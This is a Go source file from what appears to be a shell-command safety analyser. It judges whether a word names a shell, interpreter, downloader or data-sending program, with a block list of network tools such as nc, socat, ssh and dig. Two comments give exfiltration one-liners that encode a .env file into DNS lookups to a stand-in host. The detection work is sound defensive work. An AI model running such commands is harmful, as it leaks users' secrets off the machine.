package patterns

import (
	"path"
	"strings"
)

// judgeProgram judges a word naming a program (by base name, a version
// suffix allowed: python3.12, bash5): is reports membership, tables hold
// the names for a word whose value is not known.
func judgeProgram(w Word, ctx *Context, is func(string) bool, tables ...map[string]bool) Judgement {
	in := func(name string) bool {
		trimmed := strings.TrimRight(name, "0123456789.")
		return is(name) || (trimmed != "" && is(trimmed))
	}
	ws := wordShape(&w, ctx)
	if v, ok := ws.certain(); ok {
		yes := v != "" && in(programKey(path.Base(v))) // BASH is bash (program_key.go)
		return Judgement{Might: yes, Certainly: yes}
	}
	ws = foldPieces(ws)
	for _, names := range tables {
		for n := range names {
			if piecesMeet(ws, []string{n, ""}) || piecesMeet(ws, []string{"", "/" + n, ""}) {
				return Judgement{Might: true}
			}
		}
	}
	return Judgement{}
}

// judgeShell is [shell]: a program that is a shell.
func judgeShell(_ string, w Word, ctx *Context) Judgement {
	return judgeProgram(w, ctx, isShell, shellPrograms.get())
}

// judgeInterpreter is [interpreter]: a shell or another program that runs
// a script read from standard input.
func judgeInterpreter(_ string, w Word, ctx *Context) Judgement {
	return judgeProgram(w, ctx, isInterpreter, shellPrograms.get(), interpreterPrograms.get())
}

// judgeDownloader is [downloader]: a program that fetches URLs.
func judgeDownloader(_ string, w Word, ctx *Context) Judgement {
	return judgeProgram(w, ctx, isDownloader, downloaderPrograms.get())
}

// senderPrograms send what they read to a host the words name, besides
// the downloaders (which post what they are given).
var senderPrograms = lazy[map[string]bool]{build: func() map[string]bool {
	return map[string]bool{
		"nc": true, "ncat": true, "netcat": true, "socat": true, "openssl": true, "ssh": true,
		"telnet": true, "mail": true, "mailx": true, "sendmail": true, "mutt": true,
		// A name looked up is sent to the resolvers: a secret in it leaves
		// the machine (dig $(base64 < .env).x.io).
		"dig": true, "nslookup": true, "host": true, "drill": true, "ping": true, "ping6": true,
		// So is a name traced or asked of a whois server (fx67b, rt65
		// A11: traceroute "$(xxd -p < .env).x.io").
		"traceroute": true, "traceroute6": true, "tracepath": true, "tracepath6": true, "mtr": true,
		"tcptraceroute": true, "whois": true,
	}
}}

// judgeSender is [sender]: a program that sends what it reads to a host
// (a downloader, nc, socat, openssl, ssh, mail …).
func judgeSender(_ string, w Word, ctx *Context) Judgement {
	is := func(name string) bool { return downloaderPrograms.get()[name] || senderPrograms.get()[name] }
	return judgeProgram(w, ctx, is, downloaderPrograms.get(), senderPrograms.get())
}
